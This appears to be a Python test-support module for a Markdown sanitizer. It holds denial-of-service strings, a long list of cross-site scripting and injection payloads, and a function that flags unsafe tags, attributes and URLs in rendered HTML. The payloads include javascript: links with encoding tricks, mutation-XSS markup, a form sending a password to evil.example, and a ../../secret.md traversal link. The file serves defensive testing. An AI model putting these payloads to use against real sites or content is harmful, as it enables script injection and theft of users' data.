"""Markdown that means harm, and a judge that reads the result as a browser would."""

import re

from selectolax.lexbor import LexborHTMLParser

TOO_DEEP = "1. " * 900 + "x"
SLOW = {
    "brackets": "[" * 50_000,
    "links": "[a](" * 20_000,
    "lists": "\n".join("  " * depth + "- x" for depth in range(500)),
    "tags": "<b>" * 50_000,
}
QUICK = {
    "quotes": ">" * 500 + " x",
    "comments": "<!--" * 50_000,
    "stars": "*" * 50_000,
    "backticks": "`` ` " * 5_000,
    "colons": ":::" * 20_000,
}
FOR_INCLUDES = {
    "openings": "[!INCLUDE[" * 20_000,
    "ticks": "`` ` " * 20_000,
    "comments": "<!--" * 50_000,
    "fences": "```\n" * 20_000,
    "quotes": "> " * 50_000,
    "raw": "<pre>" * 50_000,
    "blanks": " " * 200_000,
}
PAYLOADS = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="https://tracker.example/pixel.gif">',
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    '![x](a.png "\\" onerror=alert(1) x=\\"")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java&#x09;script:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](kb:../../secret.md)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="https://x.example" target="_blank" onclick="alert(1)">x</a>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<style><img title='</style><img src=x onerror=alert(1)>'></style>",
    "<template><script>alert(1)</script></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">x</form>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://video.example/1"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<video src="x" onerror="alert(1)"><source onerror="alert(1)"></video>',
    '<div style="background:url(javascript:alert(1))" class="modal" id="main">x</div>',
    '<p data-behaviour="delete-everything" role="alert" tabindex="9">x</p>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "<a id=x name=y href=#z onfocus=alert(1) autofocus>x</a>",
    '<input type="checkbox" onclick="alert(1)"><input type="image" src="x">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><% x %>",
    "<p><a title='\"><img src=x onerror=alert(1)>'>x</a>",
    "`<img src=x onerror=alert(1)>`",
    '```python title="<img src=x onerror=alert(1)>"\nx\n```',
    "```<script>alert(1)</script>\nx\n```",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '=== "<img src=x onerror=alert(1)>"\n    x',
    '## <img src=x onerror=alert(1)> {#x" onclick=alert(1)}',
    '## <a name="x&quot; onclick=alert(1)"></a>x',
    "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x",
    "*[x]: <img src=x onerror=alert(1)>\n\nx",
    "++<img src=x onerror=alert(1)>++",
    ':::image source="javascript:alert(1)" alt-text="<script>alert(1)</script>":::',
    ':::image source="x.png> <img src=x onerror=alert(1)" alt-text="a](javascript:alert(1))":::',
    "> [!NOTE] <img src=x onerror=alert(1)>",
    "[!VIDEO javascript:alert(1)]",
    "[!<script>alert(1)</script>](javascript:alert(1))",
    "<xref:javascript:alert(1)>",
    "\ufdd0\u0030\ufdd1\ufdd2script\ufdd3 \x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03",
)

_NEVER_NAMES = (
    "script style svg math title textarea xmp iframe noscript noembed noframes template object embed form button "
    "select option meta base link applet frame frameset plaintext video audio source canvas portal"
)
_NEVER = frozenset(_NEVER_NAMES.split())
_ATTRIBUTES_NAMES = (
    "href src alt title class id rel width height loading decoding role tabindex aria-label data-behaviour type "
    "checked disabled open start colspan rowspan scope"
)
_ATTRIBUTES = frozenset(_ATTRIBUTES_NAMES.split())
_ADDRESS = re.compile(r"(?:kb:(?!.*(?:^|/)\.\./)|https?://|mailto:|tel:|#)")


def harm_in(html: str) -> list[str]:
    """Parse as a browser does and name everything that must not be there."""
    found: list[str] = []
    root = LexborHTMLParser(f"<!doctype html><body><div>{html}</div>").body
    assert root is not None
    for node in root.traverse():
        tag = node.tag or ""
        if tag in _NEVER:
            found.append(f"<{tag}>")
        for name, value in node.attributes.items():
            if name not in _ATTRIBUTES:
                found.append(f"{tag} {name}")
            if name == "href" and not _ADDRESS.match(value or ""):
                found.append(f"{tag} {name}={value}")
            if name == "src" and not (value or "").startswith("kb:"):
                found.append(f"{tag} {name}={value}")
        if tag == "input" and (node.attributes.get("type") != "checkbox" or "disabled" not in node.attributes):
            found.append("<input>")
    return found
